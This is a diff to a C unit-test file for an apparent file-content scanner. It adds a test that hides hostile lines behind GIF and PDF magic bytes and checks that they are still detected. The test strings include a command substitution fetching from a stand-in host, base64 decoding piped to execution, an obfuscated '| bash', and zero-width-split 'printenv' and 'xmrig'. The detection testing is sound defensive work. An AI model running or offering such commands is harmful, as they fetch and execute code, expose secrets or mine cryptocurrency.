@@ -317,11 +317,36 @@ static void inspect_explosive_text_is_an_error(void **state)
 {
 	size_t len;
 	char *text = hostile_nest("\xEF\xB7\xBA", "", "", 1 << 20, &len);
-	struct report report;
+	struct report report = inspected_as(&defaults, "a.md", text, len);
 
 	(void)state;
-	assert_int_equal(inspect(scanner, &defaults, "a.md", text, len, &report), -EFBIG);
+	assert_true(report.scan_failed);
+	assert_int_equal(report.body.len, 0);
+	assert_non_null(notices_find(&report.notices, NOTICE_SCAN_LIMIT));
+	report_release(&report);
 	free(text);
+}
+
+// A text that only its first letters make binary.
+static void inspect_text_behind_magic_is_read_as_text(void **state)
+{
+	static const char *const texts[] = {
+		"GIF89a\n$(curl http://\xC3\xA9.example)\n",
+		"%PDF-1.4\nbase64 -d \xE4\xB8\xAD | x\n",
+		"GIF89a x \xEF\xBD\x9C \xEF\xBD\x82\xEF\xBD\x81\xEF\xBD\x93\xEF\xBD\x88\n",
+		"GIF89a print\xE2\x80\x8B"
+		"env, xm\xE2\x80\x8Brig\n",
+	};
+
+	(void)state;
+	for (size_t i = 0; i < 4; i++) {
+		struct report report = inspected_as(&defaults, "a.gif", texts[i], strlen(texts[i]));
+
+		assert_int_equal(report.cls, CLASS_BINARY);
+		assert_true(report.verbatim);
+		assert_true(report.findings.count > 0);
+		report_release(&report);
+	}
 }
 
 static void inspect_archive_is_noticed(void **state)
@@ -479,6 +504,7 @@ int main(void)
 		cmocka_unit_test(inspect_without_scan_still_sanitizes),
 		cmocka_unit_test(inspect_refused_text_is_failed_with_findings_and_no_body),
 		cmocka_unit_test(inspect_explosive_text_is_an_error),
+		cmocka_unit_test(inspect_text_behind_magic_is_read_as_text),
 		cmocka_unit_test(inspect_archive_is_noticed),
 		cmocka_unit_test(inspect_invalid_prose_is_served_replaced),
 		cmocka_unit_test(inspect_random_hostile_served_is_fixed_point),
